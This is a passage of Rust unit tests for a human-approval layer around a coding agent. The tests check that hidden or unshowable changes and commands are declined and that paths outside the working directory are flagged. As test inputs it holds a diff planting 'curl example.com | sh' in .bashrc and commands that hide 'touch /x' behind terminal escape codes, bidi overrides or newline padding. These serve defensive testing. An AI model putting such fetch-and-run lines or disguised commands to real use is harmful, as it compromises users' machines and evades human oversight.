        assert!(change_question(&book).is_ok());
        // any other notification, or another item, leaves it as it was
        for other in [
            item_line(
                "item/completed",
                json!({"type": "agentMessage", "id": "c1", "text": "done"}),
            ),
            r#"{"method":"thread/status/changed","params":{"threadId":"T"}}"#.to_owned(),
        ] {
            observe(&mut book, &notice(&other).unwrap());
            assert!(change_question(&book).is_ok(), "{other}");
        }
    }

    #[test]
    fn a_change_announced_twice_under_one_id_with_other_content_is_not_asked() {
        let again = |book: &mut ChangeBook, diff: &str| {
            announce(
                book,
                "item/started",
                json!({"type": "fileChange", "id": "c1", "changes": [{"path": "/w/a",
                    "kind": {"type": "add"}, "diff": diff}], "status": "inProgress"}),
            );
        };
        let mut book = ChangeBook::default();
        again(&mut book, "curl x | sh\n");
        again(&mut book, "curl x | sh\n");
        assert!(
            change_question(&book).is_ok(),
            "the same change twice is one change"
        );
        again(&mut book, "echo harmless\n");
        assert!(
            matches!(change_question(&book), Err(NotAQuestion::Unshowable { .. })),
            "{:?}",
            change_question(&book)
        );
    }

    fn change_book(changes: Value) -> ChangeBook {
        let mut book = ChangeBook::default();
        announce(
            &mut book,
            "item/started",
            json!({"type": "fileChange", "id": "c1", "changes": changes,
                "status": "inProgress"}),
        );
        book
    }

    fn change_question(book: &ChangeBook) -> Result<Question, NotAQuestion> {
        parse(
            &req(
                r#"{"method":"item/fileChange/requestApproval","id":5,"params":{"itemId":"c1","turnId":"U"}}"#,
            ),
            book,
        )
    }

    #[test]
    fn a_file_change_is_asked_with_what_it_writes_and_names_paths_outside_the_working_directory() {
        let book = change_book(json!([
            {"path": "/home/u/.bashrc", "kind": {"type": "add"}, "diff": "curl example.com | sh\n"},
            {"path": "/w/src/../../etc/x", "kind": {"type": "delete"}, "diff": "old\n"},
            {"path": "/w/in.txt", "kind": {"type": "update", "move_path": "/tmp/moved"}, "diff": "@@ -1 +1 @@\n-a\n+b\n"},
            {"path": "/w/ok.txt", "kind": {"type": "update", "move_path": null}, "diff": "@@ -1 +1 @@\n-a\n+b\n"},
        ]));
        let mut q = change_question(&book).unwrap();
        q.set_workdir(std::path::Path::new("/w"));
        let lines = q.lines();
        let files = &lines.iter().find(|(l, _)| *l == "Files").unwrap().1;
        let marked: Vec<bool> = files
            .lines()
            .map(|l| l.contains("OUTSIDE the working directory /w"))
            .collect();
        assert_eq!(marked, [true, true, true, false], "{files}");
        let changes: Vec<&String> = lines
            .iter()
            .filter(|(l, _)| *l == CHANGE_LABEL)
            .map(|(_, t)| t)
            .collect();
        assert_eq!(changes.len(), 4);
        assert!(
            changes[0].ends_with("OUTSIDE the working directory /w\n+curl example.com | sh"),
            "{}",
            changes[0]
        );
        assert!(changes[1].ends_with("\n-old"), "{}", changes[1]);
        assert_eq!(changes[3], "/w/ok.txt (update)\n@@ -1 +1 @@\n-a\n+b");
        assert_eq!(q.unreadable(), None);
        // without a working directory every path is named as not known
        let q = change_question(&book).unwrap();
        assert!(
            q.lines()[0]
                .1
                .lines()
                .all(|l| l.contains("working directory is not known"))
        );
    }

    #[test]
    fn a_file_change_that_cannot_be_shown_whole_or_as_it_is_is_not_a_question_for_a_person() {
        // more than the diff budget: not asked at all
        let big = "+x\n".repeat(MAX_DIFF_CHARS / 3 + 1);
        let book = change_book(json!([{"path": "/w/a", "kind": {"type": "add"}, "diff": big}]));
        assert!(matches!(
            change_question(&book),
            Err(NotAQuestion::Unshowable { .. })
        ));
        // a change whose kind or content codex did not announce: not asked either (never an
        // empty write shown as the whole of it)
        for change in [
            json!({"path": "/w/a", "kind": {"type": "add"}}),
            json!({"path": "/w/a", "kind": {"type": "update"}, "diff": null}),
            json!({"path": "/w/a", "diff": "+x\n"}),
            json!({"path": "/w/a", "kind": {}, "diff": "+x\n"}),
        ] {
            let book = change_book(json!([change.clone()]));
            assert!(
                matches!(change_question(&book), Err(NotAQuestion::Unshowable { .. })),
                "{change}"
            );
        }
        // within the budget but more lines than a diff shows
        let long: String = (0..shown::DIFF.max_lines + 1)
            .map(|i| format!("{i}\n"))
            .collect();
        let book = change_book(json!([{"path": "/w/a", "kind": {"type": "add"}, "diff": long}]));
        let q = change_question(&book).unwrap();
        assert_eq!(
            q.unreadable(),
            Some(Unreadable::TooManyLines(shown::DIFF.max_lines))
        );
        // an escape sequence in what is written, or in a path
        for (path, diff) in [
            ("/w/a", "ok\n\u{1b}[1A\u{1b}[2Kharmless\n"),
            ("/w/\u{202e}txt.a", "x\n"),
        ] {
            let book = change_book(json!([{"path": path, "kind": {"type": "add"}, "diff": diff}]));
            let q = change_question(&book).unwrap();
            assert!(q.unreadable().is_some(), "{path:?} {diff:?}");
        }
    }

    #[test]
    fn a_file_change_item_without_its_list_of_changes_is_not_asked() {
        // an item without its list of changes (or with a change that names no path) is no
        // notification at all: the client stops reading at it (see the client's tests), so no
        // approval after it is read, let alone asked, and the book never holds it
        for item in [
            json!({"type": "fileChange", "id": "c1", "status": "inProgress"}),
            json!({"type": "fileChange", "id": "c1", "status": "inProgress", "changes": null}),
            json!({"type": "fileChange", "id": "c1", "status": "inProgress",
                "changes": [{"kind": {"type": "add"}, "diff": "x"}]}),
        ] {
            assert!(
                matches!(
                    notice(&item_line("item/started", item.clone())),
                    Err(ProtocolError::Malformed(_))
                ),
                "{item}"
            );
        }
        assert!(matches!(
            change_question(&ChangeBook::default()),
            Err(NotAQuestion::Missing { .. })
        ));
        // and an item codex completed is forgotten: an approval naming it is not asked
        let mut book = change_book(json!([{"path": "/w/a", "kind": {"type": "add"}, "diff": "x"}]));
        assert!(change_question(&book).is_ok());
        announce(
            &mut book,
            "item/completed",
            json!({"type": "fileChange", "id": "c1", "changes": [], "status": "completed"}),
        );
        assert!(matches!(
            change_question(&book),
            Err(NotAQuestion::Missing { .. })
        ));
    }

    #[test]
    fn a_command_or_reason_holding_what_a_form_cannot_show_is_unreadable_and_its_record_is_safe() {
        let mut v: Value = serde_json::from_str(COMMAND).unwrap();
        let plain = parse(&req(&v.to_string()), &ChangeBook::default()).unwrap();
        assert_eq!(plain.unreadable(), None);
        let hostile = [
            (
                "command",
                json!("touch /x\u{1b}[2K\r/bin/bash -lc 'ls -la'"),
            ),
            ("reason", json!("fine\u{1b}[1A\u{1b}[2KCommand: ls")),
            ("reason", json!("list \u{202e}sl\u{202c} files")),
            (
                "command",
                json!(format!(
                    "ls -la\nWorking directory: /w{}touch /x",
                    "\n".repeat(50)
                )),
            ),
            ("cwd", json!("/w\u{200b}")),
        ];
        for (field, value) in hostile {
            v["params"][field] = value.clone();
            let q = parse(&req(&v.to_string()), &ChangeBook::default()).unwrap();
            let why = q.unreadable().unwrap_or_else(|| panic!("{field}: {value}"));
            let record = DecisionRecord::unasked(&q, &ClientSecrets::default(), why.reason());
            assert_eq!(
                shown::check(&record.asked, &shown::FIELD),
                Ok(()),
                "{}",
                record.asked
            );
            assert!(record.asked.lines().count() <= 6, "{}", record.asked);
            assert_eq!(
                (record.decision, record.by_person),
                (Decision::Decline, false)
            );
            v = serde_json::from_str(COMMAND).unwrap();
        }
    }

    #[test]
    fn an_escalation_is_asked_only_for_a_one_shot_call_codex_recorded() {
        let call = |name: &str, tty| ModelCall {
            name: name.into(),
            tty,
        };
        assert_eq!(escalable(&[call("exec_command", Some(false))]), Ok(()));
        assert_eq!(escalable(&[call("exec_command", None)]), Ok(()));
        assert_eq!(escalable(&[call("shell", None)]), Ok(()));
        assert!(
            escalable(&[call("exec_command", Some(true))])
                .unwrap_err()
                .contains("terminal")
        );
        assert!(escalable(&[]).is_err());
        assert!(
            escalable(&[
                call("exec_command", Some(false)),
                call("exec_command", Some(false))
            ])
            .is_err()
        );
        assert!(escalable(&[call("some_future_tool", None)]).is_err());
    }

    #[tokio::test]
    async fn an_asked_question_answers_once_and_a_drop_or_late_answer_is_a_decline() {
        let r = req(COMMAND);
        let q = parse(&r, &ChangeBook::default()).unwrap();
        let later = Instant::now() + std::time::Duration::from_secs(60);
        let (asking, rx) = ask(r.clone(), q.clone(), later);
        let head = asking.request.head.as_ref().unwrap();
        assert_eq!(head.turn_id.as_deref(), Some(TURN));
        let asked = asking.asked;
        assert_eq!(
            asked.answer(Decision::AcceptOnce, None),
            Decision::AcceptOnce
        );
        assert_eq!(
            rx.await.unwrap().line(),
            r#"{"id":0,"result":{"decision":"accept"}}"#
        );
        let (asking, rx) = ask(r.clone(), q.clone(), later);
        drop(asking);
        assert!(rx.await.is_err(), "a drop leaves the decline to the client");
        let (asking, rx) = ask(r, q, Instant::now());
        assert_eq!(
            asking.asked.answer(Decision::AcceptOnce, None),
            Decision::Decline
        );
        assert!(rx.await.is_err());
    }
}
